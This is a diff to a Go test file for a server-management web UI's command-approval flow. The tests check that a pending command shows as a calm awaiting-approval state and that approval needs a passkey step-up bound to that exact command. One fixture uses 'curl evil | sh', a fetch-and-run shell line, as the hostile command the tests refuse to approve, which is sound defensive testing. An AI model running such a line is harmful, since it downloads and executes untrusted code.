@@ -73,8 +73,14 @@ func TestToolsShowsPendingCommandLineEscaped(t *testing.T) {
 		if !strings.Contains(body, `hx-post="/servers/commands/`+itoa(id)+`/approve"`) || !strings.Contains(body, "Approve and start") {
 			t.Errorf("%s: no Approve and start button", path)
 		}
-		if strings.Contains(body, `hx-trigger="every 2s"`) {
-			t.Errorf("%s: the card polls while a command line waits, which would replace the button during the step-up", path)
+		// The card stays live while a command line waits (maven.js holds the polls back during
+		// a passkey prompt), and the wait is a state with its action, never an error.
+		if !strings.Contains(body, `hx-trigger="every 2s"`) {
+			t.Errorf("%s: the card stopped polling while a command line waits", path)
+		}
+		if !strings.Contains(body, `data-server="notes" data-state="awaiting-approval"`) || !strings.Contains(body, "awaiting your approval") ||
+			strings.Contains(body, "Last error") || strings.Contains(body, "tone-trouble") {
+			t.Errorf("%s: waiting for approval is not shown as a calm state:\n%s", path, body)
 		}
 	}
 
@@ -96,14 +102,14 @@ func TestApproveCommandNeedsStepUp(t *testing.T) {
 	if r.Code != http.StatusForbidden {
 		t.Fatalf("approve without step-up: %d", r.Code)
 	}
-	if action, target := stepUpTrigger(t, r.Header()); action != string(auth.ActionAddServer) || target != id {
-		t.Fatalf("trigger: %s %d", action, target)
+	if got := stepUpTrigger(t, r.Header()); !got.Same(auth.One(auth.ActionAddServer, id, "")) {
+		t.Fatalf("trigger: %+v", got)
 	}
 	if f.approved("notes") || len(f.waker.list()) != 0 {
 		t.Fatal("approved or woken without a step-up")
 	}
 
-	begin := b.beginStepUp(auth.ActionAddServer, id)
+	begin := b.beginStepUp(auth.One(auth.ActionAddServer, id, ""))
 	if !strings.Contains(begin.Prompt, "notes") {
 		t.Errorf("prompt does not name the server: %q", begin.Prompt)
 	}
@@ -140,8 +146,7 @@ func TestStepUpForAnotherCommandCannotApprove(t *testing.T) {
 	evil := f.pendingCommand("evil", "curl evil | sh")
 	f.servers.set(waiting("notes"), waiting("evil"))
 
-	_, r := b.stepUp(a, auth.ActionAddServer, notes)
-	mustOK(t, "step-up", r)
+	b.mustStepUp(a, auth.One(auth.ActionAddServer, notes, ""))
 	if r := b.approveCommand(evil); r.Code != http.StatusForbidden {
 		t.Fatalf("a step-up for command %d approved command %d: %d", notes, evil, r.Code)
 	}
@@ -156,8 +161,7 @@ func TestStepUpForAnotherCommandCannotApprove(t *testing.T) {
 	if tool.ID != evil {
 		t.Fatalf("no tool with id %d", evil)
 	}
-	_, r = b.stepUp(a, auth.ActionEnableTool, tool.ID)
-	mustOK(t, "tool step-up", r)
+	b.mustStepUp(a, enableOf(tool))
 	if r := b.approveCommand(evil); r.Code != http.StatusForbidden || f.approved("evil") {
 		t.Fatalf("an enable_tool step-up approved a command line: %d", r.Code)
 	}
